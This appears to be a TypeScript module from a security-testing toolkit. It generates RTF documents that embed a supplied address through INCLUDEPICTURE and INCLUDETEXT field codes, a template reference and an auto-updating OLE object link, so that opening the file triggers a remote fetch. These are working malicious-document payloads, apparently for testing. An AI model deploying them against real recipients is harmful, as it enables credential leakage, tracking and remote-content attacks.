import { RTF } from '@creatorr/tool-kit/files/media-types';
import type { Link } from './link.ts';

const rtf = (body: string) => Buffer.from(`{\\rtf1\\ansi Harmless\\par ${body}}`);
const doubled = (at: string) => at.replaceAll('\\', '\\\\\\\\').replaceAll('{', '');

/** Of RTF. */
export const RICH_TEXT: readonly Link[] = [
	{
		name: 'a picture of an RTF',
		mimeType: RTF,
		kind: 'png',
		isRare: true,
		make: (at) => rtf(`{\\field{\\*\\fldinst INCLUDEPICTURE "${doubled(at)}" \\\\d}{\\fldrslt old}}`),
	},
	{
		name: 'a text of an RTF',
		mimeType: RTF,
		kind: 'docx',
		isRare: true,
		make: (at) => rtf(`{\\field{\\*\\fldinst INCLUDETEXT "${doubled(at)}"}{\\fldrslt old}}`),
	},
	{
		name: 'the template of an RTF',
		mimeType: RTF,
		kind: 'docx',
		isRare: true,
		make: (at) => rtf(`{\\*\\template ${doubled(at)}}text`),
	},
	{
		name: 'an object of an RTF',
		mimeType: RTF,
		kind: 'ods',
		isRare: true,
		make: (at) =>
			rtf(
				`{\\object\\objautlink\\objupdate{\\*\\objclass Excel.Sheet}{\\*\\objdata ${Buffer.from(`0105000001000000${at}`).toString('hex')}}{\\result old}}`,
			),
	},
];
